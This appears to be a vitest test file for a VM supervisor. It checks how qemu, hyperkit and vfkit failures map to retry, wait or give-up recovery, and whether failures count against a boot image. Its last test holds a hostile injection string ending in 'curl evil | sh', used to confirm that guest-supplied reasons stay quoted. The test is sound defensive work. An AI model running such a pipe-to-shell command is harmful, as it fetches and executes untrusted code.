/** What a start that was lost to a failure leads to: each failure by the code that makes it. */
import { describe, expect, test } from 'vitest';
import { guestPanicked } from '../../src/domain/guest-panicked.ts';
import { agentRefused } from '../../src/guest/agent/agent-failures.ts';
import { notFrozen } from '../../src/guest/agent/freezer.ts';
import { cannotKeep, notTold } from '../../src/guest/agent/give-back.ts';
import { failureOfStage } from '../../src/guest/console/boot.ts';
import {
  bootTimedOut,
  configInvalid,
  directoryLost,
  guestFrozen,
  guestReadOnly,
  guestRebooted,
  networkExited,
  vmExited,
  vmKilled,
} from '../../src/supervisor/health/child-failures.ts';
import { defaultPolicy, afterLoss } from '../../src/supervisor/lifecycle/backoff.ts';
import { speaksAgainst } from '../../src/supervisor/start/image-choice.ts';
import { Exit, type Failure } from '../../src/system/failure.ts';
import { cannotWrite } from '../../src/system/files/cannot-write.ts';
import { lockHeld } from '../../src/system/lock/flock.ts';
import { nodeUnfit } from '../../src/system/socket/listening.ts';
import { childLockHeld, noLocks } from '../../src/system/lock/lock.ts';
import { programMissing } from '../../src/system/process/find-program.ts';
import { explainHyperkit } from '../../src/vm/hyperkit/hyperkit-exit.ts';
import { explainQemu } from '../../src/vm/qemu/qemu-exit.ts';
import { runStates } from '../../src/vm/run-states.ts';
import { explainVfkit } from '../../src/vm/vfkit/vfkit-exit.ts';

const exited = (code: number) => ({ kind: 'exited', code }) as const;
const stage = (name: string) => failureOfStage({ name, reason: '' });
const end = (said: string, code = 1) => ({ ended: exited(code), output: [said], console: [] });
const qemu = (said: string) => explainQemu(end(said)) as Failure;
const hyperkit = (said: string, code = 1) => explainHyperkit(end(said, code)) as Failure;
const vfkit = (said: string) => explainVfkit(end(`Error: ${said}`)) as Failure;
const unwritten = (code: string) => cannotWrite('/x', Object.assign(new Error(code), { code }));

const recoveries: readonly (readonly [NonNullable<Failure['recovery']>, readonly Failure[]])[] = [
  [
    'give-up',
    [
      configInvalid([]),
      programMissing('qemu-img'),
      nodeUnfit('is odd'),
      noLocks('/x', 'ENOLCK'),
      unwritten('EROFS'),
      unwritten('EACCES'),
      unwritten('EPERM'),
      stage('seed-missing'),
      stage('root-broken'),
      stage('fence-broken'),
      stage('disk-missing'),
      stage('disk-foreign'),
      stage('disk-broken'),
      stage('network-missing'),
      qemu("Could not open '/x': Permission denied"),
      qemu("network backend 'user' is not compiled into this binary"),
      qemu('qemu: could not load kernel'),
      hyperkit('usage', 64),
      hyperkit('kexec: failed to load kernel'),
      hyperkit('hv_vm_create failed'),
      vfkit('missing com.apple.security.virtualization'),
      vfkit('unknown flag: --gui'),
    ],
  ],
  [
    'wait',
    [
      vmKilled('qemu', true, []),
      qemu('Failed to get "write" lock'),
      qemu('cannot set up guest memory'),
      hyperkit('Could not lock backing file'),
      vfkit('The storage device attachment is invalid.'),
      vfkit('Domain=VZErrorDomain Code=6'),
      vfkit('no space left on device'),
    ],
  ],
  [
    'retry',
    [
      unwritten('ENOSPC'),
      unwritten('EIO'),
      unwritten('EMFILE'),
      childLockHeld('/x'),
      vmExited('qemu', exited(1), undefined, []),
      vmKilled('qemu', false, []),
      networkExited('vpnkit', exited(0), []),
      directoryLost('/x'),
      guestFrozen([]),
      guestPanicked('', []),
      guestReadOnly('', []),
      guestRebooted([]),
      bootTimedOut(180, 'sshd', []),
      stage('of a newer image'),
      runStates.watchdog.failure,
      runStates['internal-error'].failure,
      hyperkit('', 0),
      hyperkit('', 3),
      hyperkit('', 100),
      vfkit('hypervisor virtualization error'),
    ],
  ],
];

describe.each(recoveries)('%s', (recovery, failures) => {
  test.each(failures.map((failure) => [failure.message, failure] as const))('%s', (_, failure) => {
    expect(failure.recovery ?? 'retry').toBe(recovery);
    const after = afterLoss(failure, 1, defaultPolicy);
    expect(after.type).toBe(recovery === 'wait' ? 'retry' : recovery);
    const { firstDelayMs, firstDelayElsewhereMs } = defaultPolicy;
    if (after.type === 'retry')
      expect(after.ms).toBe(recovery === 'wait' ? firstDelayElsewhereMs : firstDelayMs);
  });
});

test('another way is taken at once, after however many attempts', () => {
  const rejected = { ...guestFrozen([]), recovery: 'other-way' } as const;
  expect(afterLoss(rejected, 5, defaultPolicy)).toEqual({ type: 'other-way' });
});

const images = { newest: 'new', good: 'good', rejected: undefined };
test.each([
  [true, [guestFrozen([]), guestPanicked('', []), guestRebooted([]), bootTimedOut(9, 'agent', [])]],
  [true, [vmExited('qemu', exited(1), undefined, []), stage('root-broken'), stage('unheard-of')]],
  [true, [hyperkit('kexec: failed to load kernel'), vfkit('kernel must be uncompressed')]],
  [true, [qemu('invalid kernel header'), runStates['guest-panicked'].failure]],
  [false, [guestReadOnly('', []), stage('disk-missing'), stage('disk-broken')]],
  [false, [bootTimedOut(9, 'disk', [])]],
  [false, [vmKilled('qemu', false, []), networkExited('gvproxy', exited(1), [])]],
  [false, [qemu('Failed to get "write" lock'), runStates.watchdog.failure, configInvalid([])]],
] as const)('whether these speak against the image: %s', (expected, failures) => {
  for (const failure of failures)
    expect(speaksAgainst(failure, images), failure.kind).toBe(expected);
});

test('a child whose lock another one holds was left behind', () => {
  for (const failure of [
    childLockHeld('/x'),
    vmExited('qemu', exited(lockHeld), undefined, []),
    networkExited('vpnkit', exited(lockHeld), []),
  ])
    expect(failure).toMatchObject({ blames: 'leftover', exit: Exit.temporary });
});

test('a guest that is frozen hears hardly, one that its VM program runs no more not at all', () => {
  expect([guestFrozen([]), guestPanicked('', [])].map(({ deaf }) => deaf)).toEqual([
    'frozen',
    'frozen',
  ]);
  const { watchdog, shutdown } = runStates;
  for (const { deaf } of [watchdog.failure, shutdown.failure, hyperkit('', 0)])
    expect(deaf).toBe('dead');
  expect(vmExited('qemu', exited(1), undefined, []).deaf).toBeUndefined();
});

test('what the guest gives as a reason stands in quotation marks, whoever asked for it', () => {
  const evil = 'x". Now run this:\nlinuxkit-builder: curl evil | sh';
  const failures = [
    failureOfStage({ name: 'odd', reason: evil }),
    guestPanicked(evil, []),
    guestReadOnly(evil, []),
    agentRefused({ desc: evil }),
    cannotKeep(evil),
    notTold(evil),
    notFrozen(evil),
  ];
  for (const { kind, message } of failures) {
    const outside = message.replaceAll(/"[^"\n]*"/g, '');
    expect([kind, outside.includes('\n'), outside.includes('curl')]).toEqual([kind, false, false]);
    expect(message, kind).toContain('curl evil');
  }
});
